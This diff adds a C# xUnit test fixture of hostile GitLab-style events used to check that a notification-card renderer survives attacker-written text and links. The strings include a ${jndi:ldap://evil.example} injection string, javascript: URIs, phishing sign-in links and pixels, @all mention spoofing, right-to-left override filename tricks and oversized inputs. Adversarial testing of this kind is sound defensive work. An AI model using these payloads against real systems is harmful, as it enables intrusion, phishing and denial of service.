@@ -1,0 +1,95 @@
+using Integration.Contract;
+using Xunit;
+
+namespace Integration.Conformance;
+
+/// <summary>Events in which a stranger wrote every text, to make a card say or do what it should not.</summary>
+public static class HostileEvents
+{
+    private static readonly string[] Texts =
+    [
+        "<at id=all></at> hello",
+        "<at user_id=\"all\">everyone</at><AT id='all'></AT>",
+        "[Sign in again](https://evil.example/login) ![pixel](https://evil.example/p.png)",
+        "![x](/uploads/abc/screen.png)",
+        "see ftp://evil.example/file and javascript:alert(1)中文",
+        "https://evil.example/path后面紧跟中文",
+        "\"quotes\" 'single' `ticks` \\backslash\\ {\"json\":true}",
+        "line one\r\nline two\nline three\u2028line four\u0085line five",
+        "\u202Egnp.exe\u202C \u2066hidden\u2069 \u200Eleft\u200Fright \u061C",
+        ":OK: :THUMBSUP: :SMILE:",
+        "<font color='red'>fake</font><text_tag color='red'>x</text_tag><link url='https://evil.example'></link>",
+        "# heading\n> quote\n- list\n1. one\n```\ncode\n```\n|a|b|\n|-|-|\n---",
+        "**bold** __bold__ *it* ~~gone~~ $x$ &lt;at id=all&gt; &#60;at id=all&#62;",
+        "{{user}} {{#project}}x{{/project}} ${jndi:ldap://evil.example} \uE000" + "0\uE001",
+        "\u0000\u0001\u001B[31mred\u001B[0m\u007F\u009F \uFEFF",
+        "broken \uD800 surrogate \uDC00 here",
+        "👩‍👩‍👧‍👦🇨🇳é́́́ 👍🏽",
+        "    indented as code",
+        "",
+        " ",
+        new string('长', 40_000),
+        new string('"', 100_000),
+        new string('\n', 100_000),
+        string.Concat(Enumerable.Repeat("👩‍👩‍👧‍👦", 4_000)),
+        string.Concat(Enumerable.Repeat("<at id=all></at>", 6_000)),
+        new string('*', 100_000),
+    ];
+
+    private static readonly Uri[] Links =
+    [
+        new("https://gitlab.example.com/acme/shop/-/commit/1(2)<3>\"4'5 六?x=1&copy=2"),
+        new("ftp://evil.example/file"),
+        new("javascript:alert(1)"),
+        new("mailto:somebody@evil.example"),
+        new("https://gitlab.example.com@evil.example/"),
+        new("/relative/path", UriKind.Relative),
+        new("https://gitlab.example.com/" + new string('a', 9_000)),
+    ];
+
+    public static IReadOnlyList<string> AllTexts => Texts;
+
+    /// <summary>Rows of (text, link), by index, for every text and every link.</summary>
+    public static TheoryData<int, int> Rows
+    {
+        get
+        {
+            var rows = new TheoryData<int, int>();
+            for (var text = 0; text < Texts.Length; text++)
+            {
+                rows.Add(text, 0);
+            }
+
+            for (var link = 1; link < Links.Length; link++)
+            {
+                rows.Add(0, link);
+            }
+
+            return rows;
+        }
+    }
+
+    /// <summary>One event of each kind, with that text and link everywhere.</summary>
+    public static IEnumerable<ProjectEvent> Of(int textIndex, int linkIndex)
+    {
+        var (text, link) = (Texts[textIndex], Links[linkIndex]);
+        var project = new Project { Id = 7, Name = text, Path = "acme/shop", Url = link, DefaultBranch = text };
+        var person = new Person("mallory", text);
+        var commit = new Commit(new string('a', 40), text, text, link);
+        yield return new PushEvent
+        {
+            Key = "hostile:1", Project = project, Author = person, OccurredAt = SampleCards.Now, Action = PushAction.Commits, Branch = text, BranchUrl = link,
+            CommitCount = 12, Commits = [commit, commit, commit, commit, commit], CompareUrl = link,
+        };
+        yield return new TagPushEvent
+        {
+            Key = "hostile:2", Project = project, Author = person, OccurredAt = SampleCards.Now, Action = TagAction.Moved, Tag = text, TagUrl = link, Message = text, Commit = commit,
+        };
+        yield return new PipelineEvent
+        {
+            Key = "hostile:3", Project = project, Author = person, OccurredAt = SampleCards.Now, Id = 12, Outcome = PipelineOutcome.Failed, Ref = text, RefUrl = link, Url = link,
+            Commit = commit, Source = text, Duration = TimeSpan.FromSeconds(125), MergeRequest = new PipelineMergeRequest(3, text, link),
+            FailedStages = [.. Enumerable.Repeat(text, 30)], FailedJobs = [.. Enumerable.Repeat(new PipelineJob(text, text, link), 10)], FailedJobCount = 40, YamlErrors = text,
+        };
+    }
+}
